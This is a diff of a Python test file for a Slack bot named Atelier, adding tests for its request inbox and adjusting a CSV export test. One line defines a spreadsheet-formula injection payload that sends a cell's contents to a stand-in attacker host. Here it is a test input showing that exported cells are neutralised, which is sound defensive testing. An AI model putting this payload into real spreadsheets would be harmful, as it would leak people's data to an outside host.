@@ -8,21 +8,26 @@ from __future__ import annotations
 import csv
 import http.client
 import io
+import logging
 import socket
 import time
 import zipfile
 from pathlib import Path
 
 import pytest
+from sqlalchemy import select
 
 from bot import ship_pack
 from bot.playbook.gate import GateItem
 from bot.playbook.plays.ship import Final, ShipRecord
 from bot.serve import MAX_BODY_BYTES
-from bot.workbench.local import LocalProcesses
+from bot.workbench import walk
+from bot.workbench.local import LocalProcesses, LocalSlack
 from bot.workbench.standin import sign
+from storage import inbox
 from storage.files import ImageStore
-from tests.workbench import CHANNEL, DIRECTOR, NAMES
+from storage.models import InboxRequest
+from tests.workbench import CHANNEL, DIRECTOR, INTENT, NAMES, OPERATOR, REVIEWER, TEAM
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open the brief")'
 
@@ -36,7 +41,8 @@ def test_a_formula_in_finals_csv_arrives_as_text(tmp_path: Path) -> None:
         for n, alt in enumerate(cells, start=1)
     ]
     record = ShipRecord(1, "=cmd", finals, [], [], [])
-    with zipfile.ZipFile(io.BytesIO(ship_pack.build(record, store))) as pack:
+    ship_pack.write(record, store, tmp_path / "pack.zip")
+    with zipfile.ZipFile(tmp_path / "pack.zip") as pack:
         rows = list(csv.DictReader(io.StringIO(pack.read("finals.csv").decode())))
     assert [row["alt_text"] for row in rows] == ["'" + c for c in cells[:-1]] + ["A calm one"]
     assert {row["cleared_by"] for row in rows} == {"'=UREVIEWER"}
@@ -104,3 +110,73 @@ def test_unsigned_requests_are_refused_before_they_are_read_or_parsed(
         assert slack.command(DIRECTOR, CHANNEL, "help").status == 200
         log = stack.log_text("serve")
     assert "Traceback" not in log and "Exception" not in log
+
+
+def _inbox_kinds(local: LocalSlack) -> list[str]:
+    with local.server.atelier.service.sessions() as s:
+        rows = s.scalars(select(InboxRequest).order_by(InboxRequest.id))
+        return [
+            str((row.body.get("event") or {}).get("text") or row.body.get("text") or row.kind)
+            for row in rows
+        ]
+
+
+def test_the_inbox_keeps_only_what_atelier_acts_on(local: LocalSlack) -> None:
+    slack = local.standin
+    thread = walk.start(local, TEAM, INTENT)
+    local.settle()
+    before = len(_inbox_kinds(local))
+    slack.say(OPERATOR, CHANNEL, "lunch at noon?")  # the channel's own chat
+    chat, _ = slack.say(OPERATOR, CHANNEL, "anyone?")
+    slack.say(REVIEWER, CHANNEL, "me", thread_ts=str(chat["ts"]))  # a thread that is no project
+    slack._event(  # Atelier's own post, as Slack echoes it
+        {
+            "type": "message",
+            "channel": CHANNEL,
+            "bot_id": slack.bot_id,
+            "text": "Moodboard",
+            "ts": "1.1",
+            "thread_ts": thread,
+        }
+    )
+    slack._event(
+        {
+            "type": "message",
+            "subtype": "message_changed",
+            "channel": CHANNEL,
+            "ts": "1.2",
+            "thread_ts": thread,
+            "message": {"text": "edited"},
+        }
+    )
+    slack.say(OPERATOR, CHANNEL, "status", thread_ts=thread)  # a verb in the project
+    local.ephemeral(OPERATOR, "Project 1")
+    slack.say(DIRECTOR, CHANNEL, "looks good so far", thread_ts=thread)  # chat in the project
+    local.settle()
+    assert _inbox_kinds(local)[before:] == ["status", "looks good so far"]
+
+
+def test_a_request_set_aside_is_logged_and_its_sender_told(
+    local: LocalSlack, caplog: pytest.LogCaptureFixture
+) -> None:
+    walk.start(local, TEAM, INTENT)
+    local.settle()
+    body = {"command": "/atelier", "text": "status", "channel_id": CHANNEL, "user_id": DIRECTOR}
+    with local.server.atelier.service.sessions.begin() as s:
+        inbox.record(s, key="h:doomed", kind="slash_command", body=body)
+        row = s.scalars(select(InboxRequest).where(InboxRequest.key == "h:doomed")).one()
+        row.attempts = inbox.MAX_ATTEMPTS
+    with caplog.at_level(logging.ERROR, logger="atelier.inbox"):
+        local.server.inbox._work.release()
+        said = local.ephemeral(DIRECTOR, "set it aside")["text"]
+        local.settle()
+    assert "your `/atelier` command after 5 tries" in said and "reference inbox-" in said
+    logged = [
+        r for r in caplog.records if r.getMessage() == "request set aside after repeated failures"
+    ]
+    assert [getattr(r, "kind", None) for r in logged] == ["slash_command"]
+    with local.server.atelier.service.sessions() as s:
+        assert (
+            s.scalars(select(InboxRequest.status).where(InboxRequest.key == "h:doomed")).one()
+            == "failed"
+        )
